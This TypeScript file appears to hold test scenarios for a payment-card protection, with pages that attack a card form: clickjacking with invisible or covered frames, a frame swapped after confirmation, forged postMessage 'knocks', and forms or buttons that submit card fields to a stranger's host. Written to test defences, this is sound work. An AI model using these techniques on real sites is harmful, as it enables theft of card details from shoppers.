import { cardForm, frame, leadFrame, type Attack } from './attack.ts'

const inFrame = (style: string, around = '') =>
  ((at) => ({
    shop: `<h1>Shop</h1><div style="position:relative;width:500px;height:260px">${frame(at('pay'), `id="f" style="${style}"`)}${around}</div>`,
    pay: cardForm(),
  })) satisfies Attack['pages']

/** Frames that belong to another site than they seem to, or that are invisible. */
export const frameAttacks: readonly Attack[] = [
  {
    title: 'a stranger’s frame in the shop asks for the card',
    pages: (at) => ({ shop: `<h1>Shop</h1>${frame(at('stranger'))}`, stranger: cardForm() }),
  },
  {
    title: 'a stranger’s frame stands beside the form of the shop',
    pages: (at) => ({ shop: cardForm() + frame(at('stranger')), stranger: cardForm() }),
    allows: '#n, #e, #c',
    isFilled: true,
  },
  {
    title: 'the shop is shown in a stranger’s frame',
    top: 'stranger',
    pages: (at) => ({ stranger: `<h1>Win a prize</h1>${frame(at('shop'))}`, shop: cardForm() }),
  },
  {
    title: 'a provider’s frame is shown by a stranger’s frame in the shop',
    pages: (at) => ({ shop: frame(at('stranger')), stranger: frame(at('pay')), pay: cardForm() }),
  },
  {
    title: 'a page of the shop is shown by a stranger’s frame in the shop',
    pages: (at) => ({ shop: frame(at('stranger')), stranger: frame(at('shop', '/later')), 'shop/later': cardForm() }),
  },
  {
    title: 'the host of a frame only begins like the provider’s',
    pages: (at) => ({ shop: frame(at('resembling')), resembling: cardForm() }),
  },
  {
    title: 'a frame has no origin: data:',
    pages: () => ({ shop: frame(`data:text/html,${encodeURIComponent(cardForm())}`) }),
  },
  {
    title: 'a frame of the shop is sandboxed and has no origin',
    pages: (at) => ({
      shop: frame(at('shop', '/later'), 'sandbox="allow-scripts allow-forms"'),
      'shop/later': cardForm(),
    }),
  },
  {
    title: 'a frame of the provider is sandboxed and has no origin',
    pages: (at) => ({ shop: frame(at('pay'), 'sandbox="allow-scripts"'), pay: cardForm() }),
  },
  { title: 'the provider’s frame is transparent', pages: inFrame('opacity:0') },
  { title: 'the provider’s frame is nearly transparent', pages: inFrame('opacity:.04') },
  { title: 'the provider’s frame is two pixels in size', pages: inFrame('width:2px;height:2px') },
  { title: 'the provider’s frame is outside the window', pages: inFrame('position:absolute;left:-9000px') },
  { title: 'the provider’s frame is clipped away', pages: inFrame('clip-path:inset(50%)') },
  {
    title: 'the provider’s frame lies under a box',
    pages: inFrame('', '<div style="position:absolute;inset:0;background:#fff">Free gift</div>'),
  },
  {
    title: 'the provider’s frame lies under a box that lets clicks through',
    pages: inFrame('', '<div style="position:absolute;inset:0;background:#fff;pointer-events:none">Free gift</div>'),
  },
  {
    title: 'the provider’s frame is made transparent after the confirmation',
    pages: inFrame(''),
    meanwhile: (page) => page.evaluate(() => (document.getElementById('f')!.style.opacity = '0')),
  },
  {
    title: 'the shop navigates the provider’s frame to a stranger’s site after the confirmation',
    pages: (at) => ({ ...inFrame('')(at), stranger: cardForm() }),
    meanwhile: (page, at) =>
      leadFrame(page, at('stranger'), () =>
        page.evaluate((to) => document.getElementById('f')!.setAttribute('src', to), at('stranger')),
      ),
  },
  {
    title: 'the provider’s frame loads another page of the provider after the confirmation',
    pages: (at) => ({ ...inFrame('')(at), 'pay/later': cardForm() }),
    meanwhile: (page, at) =>
      leadFrame(page, at('pay', '/later'), () =>
        page.evaluate((to) => document.getElementById('f')!.setAttribute('src', to), at('pay', '/later')),
      ),
  },
  {
    title: 'the provider’s frame is replaced by a stranger’s after the confirmation',
    pages: (at) => ({ ...inFrame('')(at), stranger: cardForm() }),
    meanwhile: (page, at) =>
      leadFrame(page, at('stranger'), () =>
        page.evaluate((to) => {
          const old = document.getElementById('f')!
          const other = old.cloneNode() as HTMLIFrameElement
          other.src = to
          old.replaceWith(other)
        }, at('stranger')),
      ),
  },
  {
    title: 'the shop’s page forges knocks at a hidden provider’s frame',
    pages: (at) => {
      const { shop, pay } = inFrame('opacity:0')(at)
      const knocking = `<script>setInterval(() => { for (const f of document.querySelectorAll('iframe')) f.contentWindow.postMessage({ moonKnock: crypto.randomUUID() }, '*') }, 20)</script>`
      return { shop: shop + knocking, pay }
    },
  },
  {
    title: 'a stranger’s frame pretends to have received a knock',
    pages: (at) => ({
      shop: frame(at('stranger')),
      stranger: `${cardForm()}<script>setInterval(() => { for (const w of [window, parent]) w.postMessage({ moonKnock: crypto.randomUUID(), heard: true }, '*') }, 20)</script>`,
    }),
  },
  { title: 'the shop was loaded without encryption', top: 'plain', pages: () => ({ plain: cardForm() }) },
  {
    title: 'the shop’s form submits to a stranger',
    pages: (at) => ({ shop: cardForm({ form: `action="${at('stranger')}" method="post"` }) }),
  },
  {
    title: 'a button outside the shop’s form submits it to a stranger',
    pages: (at) => ({
      shop: `${cardForm({ form: 'id="f" action="/pay"' })}<button form="f" formaction="${at('stranger')}">Pay</button>`,
    }),
  },
  {
    title: 'a field named action hides the action of the form',
    pages: (at) => ({
      shop: cardForm({ form: `action="${at('stranger')}"` }).replace(
        '</form>',
        '<input type="hidden" name="action" value="/pay"><input type="hidden" name="elements"></form>',
      ),
    }),
  },
  {
    title: 'the form in the provider’s frame submits to a stranger',
    pages: (at) => ({ shop: frame(at('pay')), pay: cardForm({ form: `action="${at('stranger')}" method="post"` }) }),
  },
]
